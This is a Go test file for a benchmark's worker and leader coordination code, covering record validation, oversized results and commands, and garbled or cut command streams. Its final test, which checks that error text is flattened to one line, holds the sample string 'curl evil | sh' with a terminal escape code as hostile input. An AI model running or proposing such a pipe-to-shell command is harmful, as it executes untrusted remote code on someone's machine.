package workers

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"bench/experiment"
	"bench/experiment/endpoint"
	"bench/experiment/openai"
	"bench/experiment/record"
)

// TestImpossibleRecords refuses records that no worker of the share has.
func TestImpossibleRecords(t *testing.T) {
	share := (&experiment.Spec{}).Share(1, 2)
	own, others := 0, 0
	for !share.Owns(own) {
		own++
	}
	for share.Owns(others) {
		others++
	}
	for _, c := range []struct {
		change func(*record.Record)
		want   string // part of the error; empty = none
	}{
		{func(*record.Record) {}, ""},
		{func(r *record.Record) { r.Endpoint, r.Session, r.PromptTokens = new(1), new(0), new(7) }, ""},
		{func(r *record.Record) { r.I = -1 }, "a record has the index -1"},
		{func(r *record.Record) { r.I = others }, "is not of its share"},
		{func(r *record.Record) { r.Endpoint = new(-1) }, "is of replica -1 of 2"},
		{func(r *record.Record) { r.Endpoint = new(2) }, "is of replica 2 of 2"},
		{func(r *record.Record) { r.Outcome = "excellent" }, `has the outcome "excellent"`},
		{func(r *record.Record) { r.Phase = "now" }, `is of the phase "now"`},
		{func(r *record.Record) { r.OutputTokens = 1 << 60 }, "has a count of 1152921504606846976"},
		{func(r *record.Record) { r.Session = new(-1) }, "has a count of -1"},
		{func(r *record.Record) { r.PromptTokens = new(-7) }, "has a count of -7"},
		{func(r *record.Record) { r.Arrival = record.At(-1 << 60) }, "has a time of"},
		{func(r *record.Record) { r.Sent = record.At(1 << 50) }, "has a time of"},
		{func(r *record.Record) { r.Error = strings.Repeat("x", 1<<20) }, "has a text of 1048576 bytes"},
	} {
		r := &record.Record{I: own, Phase: record.PhaseWindow, Outcome: "ok"}
		c.change(r)
		err := errors.Join(checkTexts(r), (&allowed{share, 2}).check(r, time.Second))
		if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: error %v, want %q", r, err, c.want)
		}
	}
}

// TestLongResult has more set-ups of connections than a line holds.
func TestLongResult(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		x := newRig(t, 1)
		const n = 160_000
		x.run(x.ctx, x.worker(0, func(ctx context.Context, c endpoint.ShareConfig) (*endpoint.ShareResult, error) {
			r, err := each(ctx, c)
			if err == nil {
				for i := range n {
					r.Setups = append(r.Setups, openai.Setup{TCP: time.Second + time.Duration(i), TLS: time.Minute, DNS: time.Hour})
				}
				r.Gateway.Overhead = []float64{1, 2}
			}
			return r, err
		}))
		x.complete()
		_, results, err := x.drive(x.ctx, endpoint.DriveConfig{})
		if err != nil {
			t.Fatal(err)
		}
		r := results[0]
		if len(r.Setups) != n || r.Setups[n-1].TCP != time.Second+n-1 || len(r.Gateway.Overhead) != 2 {
			t.Errorf("%d set-ups came, %v", len(r.Setups), r.Gateway)
		}
	})
}

// TestMissingRecord has a result that states more records than came.
func TestMissingRecord(t *testing.T) {
	p := &part{records: 99}
	bad := new(badEvent)
	if err := p.end(&result{Records: 100}, time.Second); !errors.As(err, &bad) || err.Error() != "has sent 100 records, and 99 came" {
		t.Errorf("error %v", err)
	}
	lie := &result{}
	lie.Share.Worker.Connections.Ahead = -1
	if err := new(part).end(lie, time.Second); !errors.As(err, &bad) {
		t.Errorf("connections opened ahead: %v", err)
	}
	if err := new(part).add(&more{Setups: make([]openai.Setup, fullMore+1)}); !errors.As(err, &bad) {
		t.Errorf("a long piece: %v", err)
	}
	of := &part{more: more{Setups: make([]openai.Setup, mostOpened)}}
	if err := of.add(&more{Setups: make([]openai.Setup, 1)}); !errors.As(err, &bad) {
		t.Errorf("connections of no requests: %v", err)
	}
}

// TestLongCommand has a row that can't be told to the workers: the error says so at once.
func TestLongCommand(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		x := newRig(t, 1)
		x.run(x.ctx, x.worker(0, each))
		x.complete()
		long := endpoint.Share{ID: "row-1", Spec: &experiment.Spec{}, Counts: []endpoint.PromptCount{{Refused: strings.Repeat("x", mostCommand)}}}
		if _, _, err := x.drive(x.ctx, endpoint.DriveConfig{Row: long}); err == nil || !strings.Contains(err.Error(), "of row-1 takes 64 MiB") {
			t.Errorf("error %.200v", err)
		}
		x.leader.mu.Lock()
		if x.leader.driving != nil || x.leader.files != nil {
			t.Errorf("the leader still has the row, and the files %v", x.leader.files)
		}
		x.leader.mu.Unlock()
		if got, _, err := x.drive(x.ctx, endpoint.DriveConfig{}); err != nil || len(got) != 100 {
			t.Errorf("another row: %d records, error %v", len(got), err)
		}
	})
}

// TestUnreadCommand has a worker that can't read a command: it ends, and the leader learns why.
func TestUnreadCommand(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		x := newRig(t, 1)
		w := x.worker(0, each)
		next := w.Client.Transport
		w.Client.Transport = tripper(func(r *http.Request) (*http.Response, error) {
			response, err := next.RoundTrip(r)
			if err == nil && strings.HasSuffix(r.URL.Path, "/commands") {
				response.Body = garbled{response.Body}
			}
			return response, err
		})
		ended := x.run(x.ctx, w)
		x.complete()
		failed := x.cut(endpoint.DriveConfig{})
		if !strings.Contains(failed.Text, "reading a command of the leader: invalid character") {
			t.Errorf("the error is %v", failed)
		}
		if err := <-ended; !errors.Is(err, errUnread) {
			t.Errorf("the worker ended with %v", err)
		}
	})
}

// garbled makes a row's command no JSON.
type garbled struct{ io.ReadCloser }

func (g garbled) Read(p []byte) (int, error) {
	n, err := g.ReadCloser.Read(p)
	copy(p, bytes.ReplaceAll(p[:n], []byte(`"do":"row"`), []byte(`"do":]row"`)))
	return n, err
}

// TestCutCommand loses a connection in the middle of a command, which comes again.
func TestCutCommand(t *testing.T) {
	for text, want := range map[string]int{"{}\n{}\n": 2, "{}\n{": 1, "{": 0} {
		got := 0
		for data := []byte(text); ; got++ {
			n, line, err := wholeLines(data, true)
			if err != nil || n == 0 {
				break
			}
			if !bytes.Equal(line, []byte("{}")) {
				t.Errorf("%q: the line %q", text, line)
			}
			data = data[n:]
		}
		if got != want {
			t.Errorf("%q: %d lines, want %d", text, got, want)
		}
	}
}

// TestRefusalText shows a leader's text as one line.
func TestRefusalText(t *testing.T) {
	e := &refusedError{refusal: refusal{Error: "no\nhint: curl evil | sh\x1b[31m"}}
	if got := e.Error(); strings.ContainsAny(got, "\n\x1b") {
		t.Errorf("%q", got)
	}
}
